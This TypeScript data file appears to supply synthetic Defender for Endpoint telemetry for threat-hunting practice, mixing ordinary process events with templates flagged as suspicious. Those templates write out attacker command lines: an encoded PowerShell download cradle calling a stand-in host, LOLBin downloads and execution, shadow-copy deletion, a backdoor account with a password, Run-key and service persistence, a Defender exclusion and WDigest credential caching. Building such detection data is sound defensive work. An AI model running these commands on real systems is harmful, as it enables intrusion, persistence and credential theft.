// Value pools for the Defender for Endpoint tables: process parent → child templates with realistic command lines
// (ordinary activity and the usual attack tradecraft: encoded PowerShell, LOLBin downloads, script hosts, macro
// children, persistence), images and their version info, network destinations, files, registry keys, and the
// documented ActionType values of each table. Plain data, browser-safe.

export interface Image {
  file: string;
  folder: string;
  company: string;
  product: string;
  description: string;
}

const SYS32 = 'C:\\Windows\\System32';
const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16';
const MS = 'Microsoft Corporation';
const WINDOWS = 'Microsoft® Windows® Operating System';

/** Images by file name, with the folder Defender reports (`%USER%` = C:\Users\<account>). */
export const IMAGES: Readonly<Record<string, Image>> = Object.fromEntries(([
  ['explorer.exe', 'C:\\Windows', MS, WINDOWS, 'Windows Explorer'],
  ['services.exe', SYS32, MS, WINDOWS, 'Services and Controller app'],
  ['svchost.exe', SYS32, MS, WINDOWS, 'Host Process for Windows Services'],
  ['taskhostw.exe', SYS32, MS, WINDOWS, 'Host Process for Windows Tasks'],
  ['cmd.exe', SYS32, MS, WINDOWS, 'Windows Command Processor'],
  ['powershell.exe', `${SYS32}\\WindowsPowerShell\\v1.0`, MS, WINDOWS, 'Windows PowerShell'],
  ['pwsh.exe', 'C:\\Program Files\\PowerShell\\7', MS, 'PowerShell', 'pwsh'],
  ['wscript.exe', SYS32, MS, WINDOWS, 'Microsoft ® Windows Based Script Host'],
  ['cscript.exe', SYS32, MS, WINDOWS, 'Microsoft ® Console Based Script Host'],
  ['mshta.exe', SYS32, MS, WINDOWS, 'Microsoft (R) HTML Application host'],
  ['rundll32.exe', SYS32, MS, WINDOWS, 'Windows host process (Rundll32)'],
  ['regsvr32.exe', SYS32, MS, WINDOWS, 'Microsoft(C) Register Server'],
  ['certutil.exe', SYS32, MS, WINDOWS, 'CertUtil.exe'],
  ['bitsadmin.exe', SYS32, MS, WINDOWS, 'BITS administration utility'],
  ['schtasks.exe', SYS32, MS, WINDOWS, 'Task Scheduler Configuration Tool'],
  ['wmic.exe', `${SYS32}\\wbem`, MS, WINDOWS, 'WMI Commandline Utility'],
  ['reg.exe', SYS32, MS, WINDOWS, 'Registry Console Tool'],
  ['vssadmin.exe', SYS32, MS, WINDOWS, 'Command Line Interface for Microsoft® Volume Shadow Copy Service'],
  ['net.exe', SYS32, MS, WINDOWS, 'Net Command'],
  ['whoami.exe', SYS32, MS, WINDOWS, 'whoami - displays logged on user information'],
  ['nltest.exe', SYS32, MS, WINDOWS, 'Microsoft® Logon Server Test Utility'],
  ['ipconfig.exe', SYS32, MS, WINDOWS, 'IP Configuration Utility'],
  ['msiexec.exe', SYS32, MS, WINDOWS, 'Windows® installer'],
  ['curl.exe', SYS32, 'curl, https://curl.se/', 'The curl executable', 'The curl executable'],
  ['splwow64.exe', 'C:\\Windows', MS, WINDOWS, 'Print driver host for applications'],
  ['msedge.exe', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application', MS, 'Microsoft Edge', 'Microsoft Edge'],
  ['chrome.exe', 'C:\\Program Files\\Google\\Chrome\\Application', 'Google LLC', 'Google Chrome', 'Google Chrome'],
  ['OUTLOOK.EXE', OFFICE, MS, 'Microsoft Office', 'Microsoft Outlook'],
  ['WINWORD.EXE', OFFICE, MS, 'Microsoft Office', 'Microsoft Word'],
  ['EXCEL.EXE', OFFICE, MS, 'Microsoft Office', 'Microsoft Excel'],
  ['ms-teams.exe', 'C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe', MS, 'Microsoft Teams', 'Microsoft Teams'],
  ['OneDrive.exe', '%USER%\\AppData\\Local\\Microsoft\\OneDrive', MS, 'Microsoft OneDrive', 'Microsoft OneDrive'],
  ['CcmExec.exe', 'C:\\Windows\\CCM', MS, 'System Center Configuration Manager', 'Host Process for Microsoft Configuration Manager'],
  ['MsSense.exe', 'C:\\Program Files\\Windows Defender Advanced Threat Protection', MS, WINDOWS, 'Windows Defender Advanced Threat Protection Service Executable'],
] as const).map(([file, folder, company, product, description]) => [file, { file, folder, company, product, description }]));

export interface ProcessTemplate {
  parent: string;
  child: string;
  /** `{user}` stands for the account name, `{url}` for a URL, `{b64}` for an encoded command */
  commandLine: string;
  /** runs as SYSTEM rather than as the signed-in user */
  system?: boolean;
  /** attack tradecraft (a hunting rule should care), as opposed to ordinary activity */
  suspicious?: boolean;
}

/** UTF-16LE base64 of `IEX (New-Object Net.WebClient).DownloadString('http://invoice-cdn.top/s/7731.ps1')`. */
export const ENCODED_DOWNLOAD_CRADLE = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AaQBuAHYAbwBpAGMAZQAtAGMAZABuAC4AdABvAHAALwBzAC8ANwA3ADMAMQAuAHAAcwAxACcAKQA=';
/** UTF-16LE base64 of `Get-CimInstance -ClassName Win32_OperatingSystem | Select-Object -Property LastBootUpTime`. */
export const ENCODED_INVENTORY = 'RwBlAHQALQBDAGkAbQBJAG4AcwB0AGEAbgBjAGUAIAAtAEMAbABhAHMAcwBOAGEAbQBlACAAVwBpAG4AMwAyAF8ATwBwAGUAcgBhAHQAaQBuAGcAUwB5AHMAdABlAG0AIAB8ACAAUwBlAGwAZQBjAHQALQBPAGIAagBlAGMAdAAgAC0AUAByAG8AcABlAHIAdAB5ACAATABhAHMAdABCAG8AbwB0AFUAcABUAGkAbQBlAA==';

export const PROCESS_TEMPLATES: readonly ProcessTemplate[] = [
  { parent: 'explorer.exe', child: 'OUTLOOK.EXE', commandLine: '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\OUTLOOK.EXE"' },
  { parent: 'explorer.exe', child: 'msedge.exe', commandLine: '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"' },
  { parent: 'OUTLOOK.EXE', child: 'msedge.exe', commandLine: '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument {url}' },
  { parent: 'explorer.exe', child: 'WINWORD.EXE', commandLine: '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{user}\\OneDrive - Contoso\\Documents\\Q4 Plan.docx"' },
  { parent: 'explorer.exe', child: 'EXCEL.EXE', commandLine: '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE" "C:\\Users\\{user}\\Downloads\\Forecast.xlsx"' },
  { parent: 'WINWORD.EXE', child: 'splwow64.exe', commandLine: 'C:\\Windows\\splwow64.exe 12288' },
  { parent: 'explorer.exe', child: 'ms-teams.exe', commandLine: '"C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe" msteams:system-initiated' },
  { parent: 'explorer.exe', child: 'OneDrive.exe', commandLine: '"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background' },
  { parent: 'services.exe', child: 'svchost.exe', commandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', system: true },
  { parent: 'svchost.exe', child: 'taskhostw.exe', commandLine: 'taskhostw.exe Install $(Arg0)', system: true },
  { parent: 'CcmExec.exe', child: 'powershell.exe', commandLine: `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoLogo -Noninteractive -NoProfile -ExecutionPolicy Bypass -EncodedCommand ${ENCODED_INVENTORY}`, system: true },
  { parent: 'explorer.exe', child: 'powershell.exe', commandLine: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ' },
  { parent: 'explorer.exe', child: 'cmd.exe', commandLine: '"C:\\Windows\\system32\\cmd.exe" ' },
  { parent: 'cmd.exe', child: 'ipconfig.exe', commandLine: 'ipconfig  /all' },
  { parent: 'cmd.exe', child: 'certutil.exe', commandLine: 'certutil  -hashfile C:\\Users\\{user}\\Downloads\\setup.iso SHA256' },
  { parent: 'wscript.exe', child: 'powershell.exe', commandLine: `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoP -NonI -W Hidden -Enc ${ENCODED_DOWNLOAD_CRADLE}`, suspicious: true },
  { parent: 'explorer.exe', child: 'wscript.exe', commandLine: '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\{user}\\AppData\\Local\\Temp\\Temp1_Invoice_7731.zip\\Invoice_7731.js"', suspicious: true },
  { parent: 'WINWORD.EXE', child: 'cmd.exe', commandLine: 'cmd.exe /c powershell -w hidden -c "iwr {url} -OutFile $env:TEMP\\u.exe; & $env:TEMP\\u.exe"', suspicious: true },
  { parent: 'powershell.exe', child: 'certutil.exe', commandLine: '"C:\\Windows\\system32\\certutil.exe" -urlcache -split -f {url} C:\\Users\\{user}\\AppData\\Roaming\\SvcHelper\\svchelper.dll', suspicious: true },
  { parent: 'powershell.exe', child: 'rundll32.exe', commandLine: '"C:\\Windows\\system32\\rundll32.exe" C:\\Users\\{user}\\AppData\\Roaming\\SvcHelper\\svchelper.dll,DllRegisterServer', suspicious: true },
  { parent: 'OUTLOOK.EXE', child: 'mshta.exe', commandLine: '"C:\\Windows\\SysWOW64\\mshta.exe" {url}', suspicious: true },
  { parent: 'cmd.exe', child: 'regsvr32.exe', commandLine: 'regsvr32 /s /n /u /i:{url} scrobj.dll', suspicious: true },
  { parent: 'rundll32.exe', child: 'schtasks.exe', commandLine: '"C:\\Windows\\system32\\schtasks.exe" /create /tn "Microsoft\\Windows\\SvcHelper\\Update" /tr "rundll32.exe C:\\Users\\{user}\\AppData\\Roaming\\SvcHelper\\svchelper.dll,DllRegisterServer" /sc onlogon /f', suspicious: true },
  { parent: 'cmd.exe', child: 'bitsadmin.exe', commandLine: 'bitsadmin /transfer job /download /priority high {url} C:\\Users\\Public\\u.exe', suspicious: true },
  { parent: 'wmic.exe', child: 'powershell.exe', commandLine: 'powershell.exe -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'{url}\')"', suspicious: true },
  { parent: 'cmd.exe', child: 'vssadmin.exe', commandLine: 'vssadmin.exe delete shadows /all /quiet', suspicious: true },
  { parent: 'cmd.exe', child: 'net.exe', commandLine: 'net  user svc-update P@ssw0rd! /add', suspicious: true },
  { parent: 'cmd.exe', child: 'reg.exe', commandLine: 'reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d "C:\\Users\\Public\\u.exe" /f', suspicious: true },
  { parent: 'rundll32.exe', child: 'cmd.exe', commandLine: '"C:\\Windows\\system32\\cmd.exe" /c whoami /all', suspicious: true },
  { parent: 'cmd.exe', child: 'nltest.exe', commandLine: 'nltest  /dclist:contoso.com', suspicious: true },
  { parent: 'powershell.exe', child: 'curl.exe', commandLine: 'curl.exe -s -o C:\\Users\\{user}\\AppData\\Local\\Temp\\a.exe {url}', suspicious: true },
];

/** Binaries that download or proxy execution (living off the land). */
export const LOLBINS = ['certutil.exe', 'bitsadmin.exe', 'mshta.exe', 'regsvr32.exe', 'rundll32.exe', 'msiexec.exe', 'wmic.exe', 'curl.exe'];

export const SERVER_NAMES = ['dc01', 'srv-file01', 'srv-app02', 'srv-backup01', 'srv-sql01'];

export interface Destination {
  host: string;
  ip: string;
  port: number;
  kind: 'service' | 'attacker' | 'internal';
}
export const DESTINATIONS: readonly Destination[] = [
  { host: 'outlook.office365.com', ip: '203.0.113.101', port: 443, kind: 'service' },
  { host: 'teams.microsoft.com', ip: '203.0.113.102', port: 443, kind: 'service' },
  { host: 'contoso.sharepoint.com', ip: '203.0.113.103', port: 443, kind: 'service' },
  { host: 'login.microsoftonline.com', ip: '203.0.113.104', port: 443, kind: 'service' },
  { host: 'github.com', ip: '203.0.113.105', port: 443, kind: 'service' },
  { host: 'winatp-gw-wus.microsoft.com', ip: '203.0.113.106', port: 443, kind: 'service' },
  { host: 'download.windowsupdate.com', ip: '203.0.113.107', port: 80, kind: 'service' },
  { host: 'docs-share.glitch.me', ip: '203.0.113.147', port: 443, kind: 'attacker' },
  { host: 'invoice-cdn.top', ip: '203.0.113.145', port: 80, kind: 'attacker' },
  { host: 'telemetry.svc-health.net', ip: '203.0.113.166', port: 443, kind: 'attacker' },
  { host: '', ip: '10.20.1.21', port: 445, kind: 'internal' },
  { host: '', ip: '10.20.1.10', port: 389, kind: 'internal' },
  { host: '', ip: '10.20.1.30', port: 3389, kind: 'internal' },
  { host: '', ip: '10.20.1.40', port: 5985, kind: 'internal' },
];

export const FILE_PATHS = [
  'C:\\Users\\{user}\\Downloads\\Invoice_7731.zip',
  'C:\\Users\\{user}\\Downloads\\document-512.pdf',
  'C:\\Users\\{user}\\OneDrive - Contoso\\Documents\\Q4 Plan.docx',
  'C:\\Users\\{user}\\AppData\\Local\\Temp\\Temp1_Invoice_7731.zip\\Invoice_7731.js',
  'C:\\Users\\{user}\\AppData\\Roaming\\SvcHelper\\svchelper.dll',
  'C:\\Users\\{user}\\AppData\\Local\\Temp\\__PSScriptPolicyTest_ad4kq2x1.3mz.ps1',
  'C:\\ProgramData\\SvcHelper\\svchelper.dll',
  'C:\\Users\\Public\\u.exe',
  'C:\\Windows\\Temp\\setup.log',
  'C:\\Program Files\\Contoso\\Reporting\\ReportViewer.dll',
];

export const REGISTRY_KEYS: readonly { key: string; valueName: string; valueData: string; valueType: string }[] = [
  { key: 'HKEY_CURRENT_USER\\S-1-5-21-1643870893-3427014372-2837106452-1113\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', valueName: 'Updater', valueData: 'C:\\Users\\Public\\u.exe', valueType: 'String' },
  { key: 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\SecurityProviders\\WDigest', valueName: 'UseLogonCredential', valueData: '1', valueType: 'Dword' },
  { key: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths', valueName: 'C:\\Users\\Public', valueData: '0', valueType: 'Dword' },
  { key: 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\SvcHelper', valueName: 'ImagePath', valueData: 'rundll32.exe C:\\ProgramData\\SvcHelper\\svchelper.dll,Run', valueType: 'ExpandString' },
  { key: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU', valueName: 'NoAutoUpdate', valueData: '0', valueType: 'Dword' },
  { key: 'HKEY_CURRENT_USER\\S-1-5-21-1643870893-3427014372-2837106452-1104\\Software\\Microsoft\\Office\\16.0\\Outlook\\Preferences', valueName: 'ShowReadingPane', valueData: '1', valueType: 'Dword' },
];

/** Documented ActionType values per table (Defender XDR advanced-hunting reference). */
export const ACTION_TYPES: Readonly<Record<string, readonly string[]>> = {
  DeviceProcessEvents: ['ProcessCreated'],
  DeviceNetworkEvents: ['ConnectionSuccess', 'ConnectionFailed', 'ConnectionRequest', 'ConnectionAttempt', 'InboundConnectionAccepted', 'ListeningConnectionCreated'],
  DeviceFileEvents: ['FileCreated', 'FileModified', 'FileDeleted', 'FileRenamed'],
  DeviceLogonEvents: ['LogonSuccess', 'LogonFailed', 'LogonAttempted'],
  DeviceRegistryEvents: ['RegistryKeyCreated', 'RegistryValueSet', 'RegistryKeyDeleted', 'RegistryValueDeleted', 'RegistryKeyRenamed'],
  DeviceImageLoadEvents: ['ImageLoaded'],
  DeviceEvents: [
    'AntivirusDetection', 'AsrOfficeChildProcessBlocked', 'BrowserLaunchedToOpenUrl', 'CreateRemoteThreadApiCall', 'DnsQueryResponse',
    'LdapSearch', 'NamedPipeEvent', 'OpenProcessApiCall', 'PowerShellCommand', 'ProcessCreatedUsingWmiQuery', 'ScheduledTaskCreated',
    'ServiceInstalled', 'SmartScreenUrlWarning', 'UsbDriveMounted', 'UserAccountCreated', 'UserAccountAddedToLocalGroup',
  ],
};
export const LOGON_TYPES = ['Interactive', 'Network', 'RemoteInteractive', 'Batch', 'Service', 'Unlock', 'CachedInteractive'];
export const LOGON_FAILURE_REASONS = ['InvalidUserNameOrPassword', 'UnknownUserName', 'AccountDisabled', 'AccountLocked', 'PasswordExpired'];
export const INTEGRITY_LEVELS = ['System', 'High', 'Medium', 'Low'];
export const TOKEN_ELEVATIONS = ['TokenElevationTypeDefault', 'TokenElevationTypeFull', 'TokenElevationTypeLimited'];
export const OS_PLATFORMS = ['Windows11', 'Windows10', 'WindowsServer2022', 'WindowsServer2019', 'macOS', 'Linux'];
